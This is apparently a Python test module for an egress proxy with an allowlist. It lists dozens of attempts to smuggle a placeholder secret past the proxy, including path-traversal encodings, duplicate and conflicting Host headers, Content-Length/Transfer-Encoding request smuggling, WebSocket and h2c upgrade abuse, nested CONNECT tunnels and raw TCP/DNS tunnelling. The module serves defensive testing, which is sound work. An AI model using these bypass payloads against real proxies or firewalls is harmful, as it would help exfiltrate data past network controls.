"""Attempts to send SECRET past a proxy with an allowlist, as data.

Each is sent with `ALLOWED` as the allowlist. SECRET is in a part that must not be sent on (the
path, a header field, a body), or the request is for another host, whose server then records it.
"""

from collections.abc import Callable
from typing import NamedTuple

from h2.config import H2Configuration
from h2.connection import H2Connection

from tests.egress.upstream import OTHER, PUBLIC, WEBSOCKET_KEY, Upstream
from tests.egress.world import Client

ALLOWED = (
    "GET https://allowed.test/ok/*",
    "GET http://allowed.test/ok/*",
    "GET https://allowed.test/exact",
    "GET https://allowed.test/a/*/info/refs?service=git-upload-pack",
    "POST https://allowed.test/post",
    "WS https://allowed.test/ws/*",
)
WEBSOCKET = (
    "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
    f"Sec-WebSocket-Key: {WEBSOCKET_KEY}",
)  # fmt: skip

H2C = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: SECRET")
H2C_FRAMES = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nSECRET"
"""What a client sends once its offer of HTTP/2 is accepted."""


class Bypass(NamedTuple):
    name: str
    attempt: Callable[[Client], None]


def leaked(upstream: Upstream, asked: list[str]) -> bool:
    """Return whether anything left that the allowlist does not allow."""
    for connection in upstream.connections:
        if connection.address[0] != PUBLIC or connection.sni not in (None, "allowed.test"):
            return True
    return b"SECRET" in upstream.raw or any(name.lower() != "allowed.test" for name in asked)


def head(first: str, *fields: str, host: str = "allowed.test") -> bytes:
    lines = [f"{first} HTTP/1.1", f"Host: {host}", *fields]
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n"


def sends(data: bytes, target: str = "allowed.test:443", sni: str | None = ""):
    """Through a tunnel."""

    def attempt(client: Client) -> None:
        client.tunnel(target, sni)
        client.send(data)
        client.anything()

    return attempt


def plain(data: bytes) -> Callable[[Client], None]:
    """To the proxy itself."""

    def attempt(client: Client) -> None:
        client.send(data)
        client.anything()

    return attempt


def _fields(*fields: str, first: str = "GET /ok/a", body: bytes = b"") -> Callable[[Client], None]:
    return sends(head(first, *fields) + body)


def _nested(client: Client) -> None:
    client.tunnel()
    client.send(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n")
    if b" 200" in client.anything():
        client.send(b"SECRET")


def _switched(client: Client) -> None:
    client.tunnel()
    client.send(head("GET /ok/101", WEBSOCKET[3]))
    client.anything()
    client.send(b"SECRET")
    client.anything()


def _upgraded(client: Client) -> None:
    client.tunnel()
    client.send(head("GET /ok/101", *WEBSOCKET))
    if b" 101 " in client.anything():
        client.send(b"\x81\x86\0\0\0\0SECRET")
        client.anything()


def _extended_connect() -> bytes:
    """Ask for a WebSocket by HTTP/2, as RFC 8441 has it."""
    settings = H2Configuration(header_encoding=None, validate_outbound_headers=False)
    connection = H2Connection(settings)
    connection.initiate_connection()
    fields = [
        (":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"),
        (":authority", "allowed.test"), (":path", "/ws/SECRET"), ("sec-websocket-version", "13"),
    ]  # fmt: skip
    connection.send_headers(1, fields)
    connection.send_data(1, b"SECRET")
    return connection.data_to_send()


def _second_after_allowed(client: Client) -> None:
    client.tunnel()
    client.send(head("GET /ok/a") + head("GET /SECRET"))
    client.answer()
    client.anything()


def _tls_to_the_proxy(client: Client) -> None:
    import ssl

    context = ssl._create_unverified_context()
    client.socket = context.wrap_socket(client.socket, server_hostname="allowed.test")
    client.send(head("GET /ok/SECRET"))
    client.anything()


_PATHS = (
    "/ok/../SECRET", "/ok/%2e%2e/SECRET", "/ok/.%2E/SECRET", "/ok/%252e%252e/SECRET",
    "/ok/..%2fSECRET", "/ok/..%2FSECRET", "/ok/..;/SECRET", "/ok/..%3b/SECRET", "/ok/..%5cSECRET",
    "/ok/..\\SECRET", "/ok/%2e%2e%5cSECRET", "/ok/a%00SECRET", "/ok/#/../SECRET",
    "/ok/./SECRET", "/ok/%c0%ae%c0%ae/SECRET", "/ok/%u002e/SECRET", "/ok/a%0d%0aSECRET",
    "/ok/%e0%80%ae%e0%80%ae/SECRET", "/ok/%f0%80%80%ae/SECRET", "/ok/%ff/SECRET",
    "/ok/..%20/SECRET", "/ok/..%3f/SECRET", "/ok/..%23/SECRET", "/ok/%EF%BC%8E%EF%BC%8E/SECRET",
)  # fmt: skip
_OTHERS = ("/SECRET", "//ok/SECRET", "/OK/SECRET", "/ok%2FSECRET", "/exact?SECRET", "/exact/SECRET",
           "/exact;SECRET", "/a/x?SECRET/info/refs?service=git-upload-pack",
           "/ok/" + "a" * 9000 + "SECRET")  # fmt: skip

BYPASSES = (
    Bypass("host-other-than-connection",
           sends(head("GET /ok/SECRET"), "other.test:443", "other.test")),
    Bypass("host-other-than-address", sends(head("GET /ok/SECRET"), f"{OTHER}:443", "x.test")),
    Bypass("host-of-another-in-tunnel", sends(head("GET /ok/SECRET", host="other.test"))),
    Bypass("sni-other-than-host", sends(head("GET /ok/a"), sni="other.test")),
    Bypass("no-host", sends(b"GET /ok/SECRET HTTP/1.1\r\n\r\n")),
    Bypass("two-hosts", sends(head("GET /ok/SECRET", "Host: other.test"))),
    Bypass("two-hosts-the-same", sends(head("GET /ok/SECRET", "Host: allowed.test"))),
    Bypass("absolute-target-in-tunnel", sends(head("GET https://other.test/ok/SECRET"))),
    Bypass("absolute-target-other-host", plain(head("GET http://other.test/ok/SECRET"))),
    Bypass("absolute-https-without-tunnel", plain(head("GET https://other.test/ok/SECRET"))),
    Bypass("host-with-user", sends(head("GET /ok/SECRET", host="user@allowed.test"))),
    Bypass("absolute-with-user", plain(head("GET http://allowed.test@other.test/ok/SECRET"))),
    Bypass("connect-with-user", plain(b"CONNECT a@other.test:443 HTTP/1.1\r\n\r\nSECRET")),
    Bypass("host-wide-letters", sends(head("GET /ok/SECRET", host="\xef\xbd\x81llowed.test"))),
    Bypass("host-final-dot", sends(head("GET /ok/SECRET", host="allowed.test."))),
    Bypass("connect-final-dot", plain(b"CONNECT other.test.:443 HTTP/1.1\r\n\r\nSECRET")),
    Bypass("other-port",
           sends(head("GET /ok/SECRET", host="allowed.test:8443"), "allowed.test:8443")),
    Bypass("other-scheme", plain(head("GET http://allowed.test/exact?SECRET"))),
    *(Bypass(f"path {path}", sends(head(f"GET {path}"))) for path in _PATHS),
    *(Bypass(f"path {path[:60]}", sends(head(f"GET {path}"))) for path in _OTHERS),
    *(
        Bypass(f"field {name}", _fields(f"{name}: SECRET"))
        for name in ("X-HTTP-Method-Override", "X_HTTP_Method_Override", "X-Original-URL",
                     "X-Rewrite-Url", "X-Forwarded-Host", "Forwarded", "x-http-method",
                     "X-HTTP-Host-Override", "X-HTTP-DestinationURL", "X-Forwarded-Url",
                     "X_MS_Original_URL")
    ),
    Bypass("method-other", _fields(first="DELETE /ok/SECRET")),
    Bypass("method-small", _fields(first="get /ok/SECRET")),
    Bypass("method-connect-small", plain(head("connect /ok/SECRET"))),
    Bypass("body-with-get", _fields("Content-Length: 6", body=b"SECRET")),
    Bypass("chunked-body-with-get",
           _fields("Transfer-Encoding: chunked", body=b"6\r\nSECRET\r\n0\r\n\r\n")),
    Bypass("length-and-chunks", _fields("Content-Length: 4", "Transfer-Encoding: chunked",
           first="POST /post", body=b"0\r\n\r\n" + head("GET /SECRET"))),
    Bypass("two-lengths", _fields("Content-Length: 0", "Content-Length: 50", first="POST /post",
           body=head("GET /SECRET"))),
    Bypass("length-with-sign", _fields("Content-Length: +6", first="POST /post", body=b"SECRET")),
    Bypass("length-with-underscore",
           _fields("Content_Length: 6", first="POST /post", body=b"SECRET")),
    Bypass("chunks-with-another-coding", _fields("Transfer-Encoding: gzip, chunked",
           first="POST /post", body=b"6\r\nSECRET\r\n0\r\n\r\n")),
    Bypass("coding-before-1.1", sends(b"POST /post HTTP/1.0\r\nHost: allowed.test\r\n"
           b"Transfer-Encoding: chunked\r\n\r\n6\r\nSECRET\r\n0\r\n\r\n")),
    Bypass("second-request-in-denied-body", _fields("Content-Length: 60", first="POST /no",
           body=head("GET /ok/SECRET"))),
    Bypass("second-request-after-allowed", _second_after_allowed),
    Bypass("websocket", _upgraded),
    *(
        Bypass(f"websocket {name}", sends(attempt))
        for name, attempt in {
            "other-path": head("GET /SECRET", *WEBSOCKET),
            "dots": head("GET /ws/../SECRET", *WEBSOCKET),
            "by-post": head("POST /ws/SECRET", *WEBSOCKET),
            "its-word-as-a-method": head("WS /ws/SECRET"),
            "its-word-as-a-method-too": head("WS /ws/SECRET", *WEBSOCKET),
            "line-for-a-get": head("GET /ws/SECRET"),
            "with-a-body": head("GET /ws/SECRET", *WEBSOCKET, "Content-Length: 6") + b"SECRET",
            "or-h2c": head("GET /ws/SECRET", *WEBSOCKET, "Upgrade: h2c"),
            "and-h2c": head("GET /ws/SECRET", "Upgrade: websocket, h2c",
                            WEBSOCKET[0], WEBSOCKET[3]),
            "without-key": head("GET /ws/SECRET", *WEBSOCKET[:3]),
            "two-keys": head("GET /ws/SECRET", *WEBSOCKET, "Sec-WebSocket-Key: x"),
            "not-named-in-connection": head("GET /ws/SECRET", *WEBSOCKET[1:]),
            "connection-names-host": head("GET /ws/SECRET", *WEBSOCKET, "Connection: Host"),
            "other-host": head("GET /ws/SECRET", *WEBSOCKET, host="other.test"),
            "before-1.1": head("GET /ws/SECRET", *WEBSOCKET).replace(b"HTTP/1.1", b"HTTP/1.0"),
            "of-http-2": _extended_connect(),
        }.items()
    ),
    Bypass("websocket of-http-2-to-the-proxy", plain(_extended_connect())),
    *(
        Bypass(f"h2c {name}", _fields(*fields, body=H2C_FRAMES))
        for name, fields in {
            "settings": H2C,
            "without-settings": (H2C[0], H2C[1], "X-A: SECRET"),
            "two-settings": (*H2C, H2C[2]),
            "two-upgrades": (*H2C, H2C[1], "X-A: SECRET"),
            "or-another": (H2C[0], "Upgrade: h2c, other", H2C[2], "X-A: SECRET"),
            "connection-names-host": (*H2C, "Connection: Host", "X-A: SECRET"),
            "settings-with-underscore": (*H2C[:2], "HTTP2_Settings: SECRET"),
            "with-a-body": (*H2C, f"Content-Length: {len(H2C_FRAMES)}"),
        }.items()
    ),
    Bypass("switch-that-nobody-asked-for", _switched),
    Bypass("raw-tcp", sends(b"SSH-2.0-SECRET\r\n\r\n", "allowed.test:8080", None)),
    Bypass("raw-tcp-other-host", sends(b"SSH-2.0-SECRET\r\n\r\n", "other.test:8080", None)),
    Bypass("raw-tls-without-http", sends(b"SECRET\r\n\r\n")),
    Bypass("dns-through-tunnel",
           plain(b"CONNECT other.test:53 HTTP/1.1\r\n\r\n\0\x06SECRET")),
    Bypass("connect-alone", plain(b"CONNECT other.test:443 HTTP/1.1\r\n\r\n")),
    Bypass("connect-in-tunnel", _nested),
    Bypass("connect-without-port", plain(b"CONNECT other.test HTTP/1.1\r\n\r\nSECRET")),
    Bypass("connect-path", plain(b"CONNECT /SECRET HTTP/1.1\r\nHost: other.test\r\n\r\n")),
    Bypass("connect-ipv6", sends(head("GET /ok/SECRET"), "[::1]:443", "x.test")),
    Bypass("connect-short-address", plain(b"CONNECT 127.1:443 HTTP/1.1\r\n\r\nSECRET")),
    Bypass("bare-cr-in-field", _fields("X-A: b\rX-B: SECRET")),
    Bypass("nul-in-field", _fields("X-A: b\0SECRET")),
    Bypass("folded-field", _fields("X-A: b\r\n SECRET")),
    Bypass("blank-before-colon", _fields("X-A : SECRET")),
    Bypass("connection-names-host", _fields("Connection: close, Host", "X-A: SECRET")),
    Bypass("trailer", _fields("Transfer-Encoding: chunked", "Trailer: X-B", first="POST /post",
           body=b"0\r\nX-B: SECRET\r\n\r\n")),
    Bypass("trailer-that-was-not-named", _fields("Transfer-Encoding: chunked", first="POST /post",
           body=b"0\r\nX-B: SECRET\r\n\r\n")),
    Bypass("http-2-preface", sends(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nSECRET")),
    Bypass("asterisk", _fields("X-A: SECRET", first="OPTIONS *")),
    Bypass("too-many-fields", _fields(*(f"X-{n}: SECRET" for n in range(300)))),
    Bypass("too-long-field", _fields("X-A: SECRET" + "a" * 70000)),
    Bypass("tls-to-the-proxy", _tls_to_the_proxy),
)  # fmt: skip
